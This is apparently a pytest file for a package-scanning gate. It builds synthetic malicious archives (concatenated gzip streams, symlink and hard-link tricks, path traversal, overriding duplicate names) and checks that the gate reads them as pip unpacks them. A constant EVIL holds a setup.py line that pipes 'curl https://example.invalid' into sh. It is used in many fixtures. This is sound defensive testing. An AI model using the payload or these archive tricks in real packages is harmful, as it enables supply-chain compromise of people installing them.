"""The gate's archive readers against pip's own unpacking, archive by archive.

Each fixture is a synthetic archive built here, in memory. pip's
`unpack_file` (the code `pip install` runs on an sdist; it only writes
bytes, it never runs setup.py) unpacks it into tmp_path, and the files it
leaves are compared with what the gate's `Tree` says: every regular file
pip wrote, as (path, sha256), must be exactly the gate's names (the sdist's
single leading folder stripped the way pip strips it) with the sha256 of
`tree.read(name)`.

Where the two cannot agree, the fixture says how and why, and the test
asserts that: pip fails but the gate reads the archive (reading more than
pip would install is safe), pip installs but the gate refuses it with
ArchiveError (the package is `unscanned`, which fails closed), or, once, a
difference of names only, which is documented as a known limitation.
"""

from __future__ import annotations

import bz2
import gzip
import hashlib
import io
import lzma
import os
import random
import stat
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from pip._internal.utils.unpacking import has_leading_dir, split_leading_dir, unpack_file

from mphunter_gate.errors import ArchiveError
from mphunter_gate.fetch.archive import open_tree

SETUP = b"from setuptools import setup\nsetup(name='demo')\n"
EVIL = b"import os\nos.system('curl https://example.invalid | sh')\n"
INIT = b"from . import core\n"
META = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"


# -- building archives -----------------------------------------------------------------------


def _entry(
    name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, linkname: str = ""
) -> bytes:
    """One raw tar entry, without the end-of-archive marker (so a tar can be split)."""
    ti = tarfile.TarInfo(name)
    ti.type = kind
    ti.linkname = linkname
    ti.size = len(data) if kind == tarfile.REGTYPE else 0
    ti.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    if kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
        ti.devmajor, ti.devminor = 1, 3
    header = ti.tobuf(tarfile.GNU_FORMAT, "utf-8", "surrogateescape")
    return header + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)


def _sym(name: str, target: str) -> bytes:
    return _entry(name, kind=tarfile.SYMTYPE, linkname=target)


def _hard(name: str, target: str) -> bytes:
    return _entry(name, kind=tarfile.LNKTYPE, linkname=target)


def _dir(name: str) -> bytes:
    return _entry(name, kind=tarfile.DIRTYPE)


END = b"\0" * tarfile.RECORDSIZE
PACK: dict[str, Callable[[bytes], bytes]] = {
    "": lambda d: d,
    "gz": lambda d: gzip.compress(d, mtime=0),
    "bz2": bz2.compress,
    "xz": lzma.compress,
}


def _tar(*entries: bytes, compress: str = "gz") -> bytes:
    return PACK[compress](b"".join(entries) + END)


def _zip(*entries: tuple[str, bytes, int]) -> bytes:
    """A zip of (name, data, unix mode) entries; mode 0 leaves the attributes unset."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf, warnings.catch_warnings():
        warnings.filterwarnings("ignore", "Duplicate name", UserWarning)  # repeated on purpose
        for name, data, mode in entries:
            info = zipfile.ZipInfo(name)
            if mode:
                info.create_system = 3
                info.external_attr = mode << 16
            zf.writestr(info, data)
    return buf.getvalue()


SDIST = (
    _entry("demo-1.0/PKG-INFO", META),
    _entry("demo-1.0/setup.py", SETUP),
    _entry("demo-1.0/demo/__init__.py", INIT),
    _entry("demo-1.0/demo/core.py", b"X = 1\n"),
)


# -- the fixtures ----------------------------------------------------------------------------

SAME = "same"  # pip and the gate agree, file for file and byte for byte
PIP_FAILS = "pip fails, the gate reads"  # safe: the gate reads more than pip installs
GATE_REFUSES = "the gate refuses, pip installs"  # safe: unscanned fails closed
NAMES_DIFFER = "same bytes, other names"  # a documented limitation


@dataclass(frozen=True)
class Case:
    id: str
    filename: str
    data: bytes
    outcome: str = SAME
    why: str = ""  # for every outcome but SAME: the reason, checked into the test
    gate: dict[str, bytes] = field(default_factory=dict)  # PIP_FAILS: what the gate reads
    #: SAME where pip unpacks it; the pip of some Pythons refuses it instead (then it
    #: installs nothing, and what the gate reads is what the other pips write).
    pip_may_fail: str = ""


def _cases() -> list[Case]:
    gz = PACK["gz"]
    first = _entry("demo-1.0/PKG-INFO", META) + _entry("demo-1.0/setup.py", SETUP)
    second = _entry("demo-1.0/setup.py", EVIL) + END
    cases = [
        # plain layouts
        Case("plain-sdist", "demo-1.0.tar.gz", _tar(_dir("demo-1.0"), *SDIST)),
        Case("plain-tar", "demo-1.0.tar", _tar(_dir("demo-1.0"), *SDIST, compress="")),
        Case("plain-bz2", "demo-1.0.tar.bz2", _tar(*SDIST, compress="bz2")),
        Case("plain-xz", "demo-1.0.tar.xz", _tar(*SDIST, compress="xz")),
        Case(
            "tar-without-leading-folder",
            "demo-1.0.tar.gz",
            _tar(_entry("setup.py", SETUP), _entry("demo/__init__.py", INIT)),
        ),
        Case(
            "tar-dotted-leading-folder",
            "demo-1.0.tar.gz",
            _tar(_entry("./demo-1.0/setup.py", SETUP), _entry("./demo-1.0/demo/core.py", b"X\n")),
        ),
        Case(
            "zip-sdist",
            "demo-1.0.zip",
            _zip(
                ("demo-1.0/", b"", 0),
                ("demo-1.0/setup.py", SETUP, 0),
                ("demo-1.0/demo/__init__.py", INIT, 0),
            ),
        ),
        Case(
            "wheel",
            "demo-1.0-py3-none-any.whl",
            _zip(
                ("demo/__init__.py", INIT, 0),
                ("demo/core.py", b"X = 1\n", 0),
                ("demo-1.0.dist-info/METADATA", META, 0),
            ),
        ),
        # 1. concatenated compressed members
        Case("gzip-second-member-overrides-setup", "demo-1.0.tar.gz", gz(first) + gz(second)),
        Case("bz2-two-streams", "demo-1.0.tar.bz2", bz2.compress(first) + bz2.compress(second)),
        Case("xz-two-streams", "demo-1.0.tar.xz", lzma.compress(first) + lzma.compress(second)),
        Case(
            "gzip-zeros-between-and-after-members",
            "demo-1.0.tar.gz",
            gz(first) + b"\0" * 1000 + gz(second) + b"\0" * 7,
        ),
        Case(
            "gzip-garbage-inside-the-tar",
            "demo-1.0.tar.gz",
            gz(first) + b"garbage",
            outcome="both fail",
        ),
        Case(
            "gzip-garbage-after-the-tar",
            "demo-1.0.tar.gz",
            gz(first + END) + b"garbage",
            outcome=GATE_REFUSES,
            why="tarfile stops at the tar's end marker, so GzipFile never reaches the bytes "
            "behind the member; the gate reads the whole stream and refuses what is neither "
            "zero padding nor a gzip member (as GzipFile would, reading on)",
        ),
        Case(
            "bz2-garbage-after-the-stream",
            "demo-1.0.tar.bz2",
            bz2.compress(first) + bz2.compress(second) + b"garbage",
        ),
        # 2. repeated names
        Case(
            "file-then-folder-of-the-same-name",
            "demo-1.0.tar.gz",
            _tar(*SDIST, _dir("demo-1.0/setup.py")),
            pip_may_fail="pip on Python 3.13 stops with FileExistsError at the folder entry",
        ),
        Case(
            "folder-then-file-of-the-same-name",
            "demo-1.0.tar.gz",
            _tar(_dir("demo-1.0/setup.py"), _entry("demo-1.0/setup.py", EVIL)),
            outcome="both fail",
        ),
        Case(
            "later-file-of-the-same-name",
            "demo-1.0.tar.gz",
            _tar(*SDIST, _entry("demo-1.0/setup.py", EVIL)),
        ),
        # 3. links
        Case(
            "symlink-to-a-py-inside",
            "demo-1.0.tar.gz",
            _tar(
                _entry("demo-1.0/demo/payload.py", SETUP),
                _sym("demo-1.0/setup.py", "demo/payload.py"),
                _entry("demo-1.0/demo/payload.py", EVIL),  # what it holds at the end counts
            ),
        ),
        Case(
            "symlink-chain",
            "demo-1.0.tar.gz",
            _tar(
                _entry("demo-1.0/c.py", EVIL),
                _sym("demo-1.0/setup.py", "sub/b.py"),
                _sym("demo-1.0/sub/b.py", "../c.py"),
            ),
        ),
        Case(
            "symlink-chain-of-40-and-of-41",
            "demo-1.0.tar.gz",
            _tar(
                _entry("demo-1.0/end.py", EVIL),
                *(
                    _sym(f"demo-1.0/l{i}.py", f"l{i + 1}.py" if i < 40 else "end.py")
                    for i in range(41)
                ),
            ),
        ),
        Case(
            "symlink-outside",
            "demo-1.0.tar.gz",
            _tar(*SDIST, _sym("demo-1.0/demo/evil.py", "../../outside.py")),
            outcome=PIP_FAILS,
            why="pip's data filter refuses a link leaving the destination; the gate keeps it "
            "as an unreadable link (links()) and reads the rest",
            gate={
                "demo-1.0/PKG-INFO": META,
                "demo-1.0/setup.py": SETUP,
                "demo-1.0/demo/__init__.py": INIT,
                "demo-1.0/demo/core.py": b"X = 1\n",
            },
        ),
        Case(
            "symlink-absolute",
            "demo-1.0.tar.gz",
            _tar(_entry("demo-1.0/setup.py", SETUP), _sym("demo-1.0/passwd", "/etc/passwd")),
            outcome=PIP_FAILS,
            why="pip's data filter refuses an absolute link; the gate leaves it unread",
            gate={"demo-1.0/setup.py": SETUP},
        ),
        Case(
            "symlink-up-and-back-into-the-leading-folder",
            "demo-1.0.tar.gz",
            _tar(
                _entry("demo-1.0/real.py", EVIL), _sym("demo-1.0/setup.py", "../demo-1.0/real.py")
            ),
            outcome=PIP_FAILS,
            why="pip unpacks into a folder of its own, so `..` from the top leaves it",
            gate={"demo-1.0/real.py": EVIL},
        ),
        Case(
            "symlink-to-a-missing-member",
            "demo-1.0.tar.gz",
            _tar(*SDIST, _sym("demo-1.0/demo/gone.py", "nowhere.py")),
        ),
        Case(
            "symlink-to-a-folder",
            "demo-1.0.tar.gz",
            _tar(*SDIST, _sym("demo-1.0/alias", "demo")),
        ),
        Case(
            "symlink-loop",
            "demo-1.0.tar.gz",
            _tar(*SDIST, _sym("demo-1.0/a.py", "b.py"), _sym("demo-1.0/b.py", "a.py")),
        ),
        Case(
            "file-written-over-a-symlink",
            "demo-1.0.tar.gz",
            _tar(
                _entry("demo-1.0/demo/core.py", b"X = 1\n"),
                _sym("demo-1.0/setup.py", "demo/core.py"),
                _entry("demo-1.0/setup.py", EVIL),  # opened through the link: core.py changes
            ),
        ),
        Case(
            "file-written-through-a-symlinked-folder",
            "demo-1.0.tar.gz",
            _tar(
                _entry("demo-1.0/setup.py", b"import demo.core\n"),
                _dir("demo-1.0/demo"),
                _sym("demo-1.0/alias", "demo"),
                _entry("demo-1.0/alias/core.py", EVIL),
            ),
        ),
        Case(
            "hard-link",
            "demo-1.0.tar.gz",
            _tar(
                _entry("demo-1.0/hidden.py", EVIL), _hard("demo-1.0/setup.py", "demo-1.0/hidden.py")
            ),
        ),
        Case(
            "hard-link-target-without-the-leading-folder",
            "demo-1.0.tar.gz",
            _tar(_entry("demo-1.0/hidden.py", EVIL), _hard("demo-1.0/setup.py", "hidden.py")),
        ),
        Case(
            "hard-link-target-rewritten-later",
            "demo-1.0.tar.gz",
            _tar(
                _entry("demo-1.0/a.py", SETUP),
                _hard("demo-1.0/setup.py", "demo-1.0/a.py"),
                _entry("demo-1.0/a.py", EVIL),
            ),
        ),
        Case(
            "hard-link-without-leading-folder",
            "flat.tar.gz",
            _tar(_entry("hidden.py", EVIL), _hard("setup.py", "hidden.py")),
        ),
        Case(
            "hard-link-through-a-folder-missing-then",
            "flat.tar.gz",
            _tar(
                _entry("b.py", SETUP),
                _hard("setup.py", "demo/../b.py"),  # `demo` does not exist yet: a copy
                _dir("demo"),
                _entry("b.py", EVIL),
            ),
        ),
        Case(
            "symlink-under-a-file",
            "demo-1.0.tar.gz",
            _tar(*SDIST, _sym("demo-1.0/setup.py/x.py", "nowhere.py")),  # skipped by tarfile
        ),
        Case(
            "hard-link-to-a-missing-member",
            "demo-1.0.tar.gz",
            _tar(_entry("demo-1.0/setup.py", SETUP), _hard("demo-1.0/x.py", "demo-1.0/nowhere.py")),
            outcome=PIP_FAILS,
            why="tarfile raises KeyError for a hard link whose target is not in the archive; "
            "the gate leaves it unread",
            gate={"demo-1.0/setup.py": SETUP},
        ),
        Case(
            "hard-link-over-an-existing-name",
            "demo-1.0.tar.gz",
            _tar(
                _entry("demo-1.0/a.py", EVIL),
                _entry("demo-1.0/setup.py", SETUP),
                _hard("demo-1.0/setup.py", "demo-1.0/a.py"),
            ),
            outcome=GATE_REFUSES,
            why="Python 3.11's tarfile copies the archived target over the name (writing "
            "through a link there), newer ones unlink it and link: the gate does not pick one",
        ),
        Case(
            "hard-link-to-a-symlink",
            "demo-1.0.tar.gz",
            _tar(
                _entry("demo-1.0/a.py", EVIL),
                _sym("demo-1.0/s.py", "a.py"),
                _hard("demo-1.0/setup.py", "demo-1.0/s.py"),
            ),
            outcome=GATE_REFUSES,
            why="link() makes a second symlink on Linux but follows the link on macOS and BSD",
        ),
        # devices and escapes
        Case(
            "device",
            "demo-1.0.tar.gz",
            _tar(*SDIST, _entry("demo-1.0/dev", kind=tarfile.CHRTYPE)),
            outcome="both fail",
        ),
        Case(
            "fifo",
            "demo-1.0.tar.gz",
            _tar(*SDIST, _entry("demo-1.0/pipe", kind=tarfile.FIFOTYPE)),
            outcome="both fail",
        ),
        Case(
            "member-outside",
            "demo-1.0.tar.gz",
            _tar(*SDIST, _entry("demo-1.0/../../evil.py", EVIL)),
            outcome="both fail",
        ),
        # 4. zip entries are files, whatever their mode bits
        Case(
            "zip-symlink-mode-bits",
            "demo-1.0.zip",
            _zip(
                ("demo-1.0/setup.py", EVIL, stat.S_IFLNK | 0o777),
                ("demo-1.0/demo/__init__.py", INIT, stat.S_IFREG | 0o644),
            ),
        ),
        Case(
            "wheel-symlink-and-fifo-mode-bits",
            "demo-1.0-py3-none-any.whl",
            _zip(
                ("demo/__init__.py", EVIL, stat.S_IFLNK | 0o777),
                ("demo/core.py", EVIL, stat.S_IFIFO | 0o644),
                ("demo-1.0.dist-info/METADATA", META, 0),
            ),
        ),
        Case(
            "zip-repeated-name",
            "demo-1.0.zip",
            _zip(
                ("demo-1.0/setup.py", SETUP, 0),
                ("demo-1.0/setup.py", EVIL, 0),
                ("demo-1.0/setup.py/", b"", 0),
            ),
        ),
        Case(
            "zip-backslash-folder-entry",
            "demo-1.0.zip",
            _zip(("demo-1.0/setup.py", SETUP, 0), ("demo-1.0/demo\\", b"folder?", 0)),
        ),
        Case(
            "zip-entry-named-as-the-leading-folder",
            "demo-1.0.zip",
            _zip(("demo-1.0", EVIL, 0), ("demo-1.0/setup.py", SETUP, 0)),
        ),
        Case(
            "zip-backslash-in-a-name",
            "demo-1.0.zip",
            _zip(("demo-1.0/setup.py", SETUP, 0), ("demo-1.0/demo\\core.py", EVIL, 0)),
            outcome=NAMES_DIFFER,
            why="on Linux pip writes a file whose name holds a backslash, on Windows a file "
            "in a folder; the gate reads it as the folder's file (the bytes are read either "
            "way, and Python can import only the folder's one)",
        ),
        # the reader chosen as pip chooses it
        Case(
            "tar-that-is-also-a-zip",
            "demo-1.0.tar",
            _tar(_entry("PK\x03\x04demo/setup.py", EVIL), compress="")
            + _zip(("PK\x03\x04demo/setup.py", SETUP, 0)),
        ),
    ]
    return cases


CASES = _cases()


# -- the comparison --------------------------------------------------------------------------


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _pip_unpack(path: Path, dest: Path) -> Exception | None:
    """pip's own unpacking of `path` into `dest`; the exception when it fails."""
    try:
        unpack_file(str(path), str(dest))
    except Exception as exc:  # InstallationError, KeyError, OSError, tarfile's errors...
        return exc
    return None


def _pip_files(dest: Path) -> set[tuple[str, str]]:
    """(path, sha256) of every regular file pip left, read through links inside `dest`."""
    real_dest = os.path.realpath(dest)
    found = set()
    for folder, _, files in os.walk(dest):  # a link to a folder is not walked into
        for fname in files:
            path = os.path.join(folder, fname)
            if not os.path.isfile(path):  # dangling, looping, or a link to a folder
                continue
            real = os.path.realpath(path)
            assert real.startswith(real_dest + os.sep), f"{path} leads out of the destination"
            found.add((os.path.relpath(path, dest), _sha(Path(real).read_bytes())))
    return found


def _leading(case: Case, path: Path) -> str:
    """The folder pip strips from every member ("" for none), decided as pip decides:
    `has_leading_dir` over the member names, then `split_leading_dir` of each."""
    if case.filename.endswith(".whl"):
        return ""  # unpack_file(flatten=False)
    if zipfile.is_zipfile(path) and not case.filename.endswith(".tar"):
        with zipfile.ZipFile(path) as zf:
            names = zf.namelist()
    else:
        with tarfile.open(path) as tf:
            names = tf.getnames()
    return split_leading_dir(names[0])[0] if has_leading_dir(names) else ""


def _strip(name: str, lead: str) -> str:
    """A gate name (normalised: `./x` is `x`) relative to where pip unpacked the archive."""
    prefix = os.path.normpath(lead) + "/" if lead else ""
    if prefix == "./":
        return name
    assert name.startswith(prefix), f"{name} is not under {lead}"
    return name[len(prefix) :]


def _gate(case: Case) -> dict[str, bytes] | ArchiveError:
    try:
        tree = open_tree(case.data, case.filename)
        return {name: tree.read(name) for name in tree.names()}
    except ArchiveError as exc:
        return exc


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_gate_reads_what_pip_unpacks(case: Case, tmp_path: Path) -> None:
    path = tmp_path / case.filename
    path.write_bytes(case.data)
    dest = tmp_path / "unpacked"
    pip_error = _pip_unpack(path, dest)
    gate = _gate(case)

    if case.outcome == "both fail":
        assert pip_error is not None, "pip unpacked it"
        assert isinstance(gate, ArchiveError), f"the gate read {sorted(gate)}"
        return
    if case.outcome == PIP_FAILS:
        assert case.why
        assert pip_error is not None, "pip unpacked it: compare instead"
        assert gate == case.gate
        return
    if case.outcome == GATE_REFUSES:
        assert case.why
        assert pip_error is None, f"pip failed too ({pip_error!r})"
        assert isinstance(gate, ArchiveError), f"the gate read {sorted(gate)}"
        return

    if pip_error is not None and case.pip_may_fail:
        assert not isinstance(gate, ArchiveError), f"the gate refused it: {gate}"
        return
    assert pip_error is None, f"pip failed: {pip_error!r}"
    assert not isinstance(gate, ArchiveError), f"the gate refused it: {gate}"
    lead = _leading(case, path)
    ours = {(_strip(name, lead), _sha(data)) for name, data in gate.items()}
    theirs = _pip_files(dest)
    assert theirs, "pip wrote no file: the fixture tests nothing"
    if case.outcome == NAMES_DIFFER:
        assert case.why
        assert ours != theirs
        assert sorted(sha for _, sha in ours) == sorted(sha for _, sha in theirs)
        return
    assert ours == theirs


# -- seeded random archives ------------------------------------------------------------------

#: Why the gate may refuse what pip installs (each fails closed; see `_Extraction`).
_REFUSALS = ("over an existing name", "to a symbolic link", "to a hard link")


def _random_tar(rnd: random.Random) -> tuple[str, bytes]:
    lead = rnd.choice(["", "demo-1.0/"])
    names = ["a", "b", "c", "a/x", "a/y", "b/x", "c/z", "a/../b", "x/../c", "b/./x"]
    targets = ["a", "b", "x", "a/x", "b/x", "../a", "..", ".", "c/z", "a/../b", "q", "b/", "x/../a"]
    entries = []
    for _ in range(rnd.randint(1, 7)):
        name = lead + rnd.choice(names)
        kind = rnd.choice("ffffddsshh")
        if kind == "f":
            entries.append(_entry(name, bytes([rnd.randrange(256)]) * rnd.randint(1, 3)))
        elif kind == "d":
            entries.append(_dir(name))
        elif kind == "s":
            entries.append(_sym(name, rnd.choice(targets)))
        else:
            target = rnd.choice(targets)
            entries.append(_hard(name, lead + target if rnd.random() < 0.7 else target))
    return "demo-1.0.tar.gz", _tar(*entries)


def _random_zip(rnd: random.Random) -> tuple[str, bytes]:
    lead = rnd.choice(["", "demo-1.0/"])
    names = ["a", "b", "a/x", "a/", "b/", "a/x/", "./a/y", "a//z", "c/./d"]
    modes = [0, stat.S_IFLNK | 0o777, stat.S_IFREG | 0o755, stat.S_IFIFO, stat.S_IFDIR | 0o755]
    entries = [
        (
            lead + rnd.choice(names),
            bytes([rnd.randrange(256)]) * rnd.randint(0, 3),
            rnd.choice(modes),
        )
        for _ in range(rnd.randint(1, 6))
    ]
    return rnd.choice(["demo-1.0.zip", "demo-1.0-py3-none-any.whl"]), _zip(*entries)


@pytest.mark.parametrize("make", [_random_tar, _random_zip])
def test_random_archives_read_as_pip_unpacks_them(
    make: Callable[[random.Random], tuple[str, bytes]], tmp_path: Path
) -> None:
    """Small archives of files, folders, links and odd names over a few names, so that
    they collide: wherever pip installs and the gate reads, it reads the same files.
    (Run over 14,000 tars and 6,000 zips while this was written; these seeds are a
    fixed sample of that.)"""
    outcomes: dict[str, int] = {}
    for seed in range(600):
        filename, data = make(random.Random(seed))
        case = Case(f"seed-{seed}", filename, data)
        folder = tmp_path / str(seed)
        folder.mkdir()
        path = folder / filename
        path.write_bytes(data)
        dest = folder / "unpacked"
        pip_error = _pip_unpack(path, dest)
        gate = _gate(case)
        if pip_error is not None:
            outcome = "pip fails"  # nothing installed: whatever the gate does is safe
        elif isinstance(gate, ArchiveError):
            assert any(why in str(gate) for why in _REFUSALS), (seed, gate)
            outcome = "gate refuses"
        else:
            lead = _leading(case, path)
            ours = {(_strip(name, lead), _sha(body)) for name, body in gate.items()}
            assert ours == _pip_files(dest), seed
            outcome = "same"
        outcomes[outcome] = outcomes.get(outcome, 0) + 1
    assert outcomes.get("same", 0) >= 30, outcomes  # the sample still compares something


def test_every_fixture_is_a_distinct_archive() -> None:
    """A copy-paste slip would make two cases test one archive."""
    assert len({c.data for c in CASES}) == len(CASES)
    assert len({c.id for c in CASES}) == len(CASES)
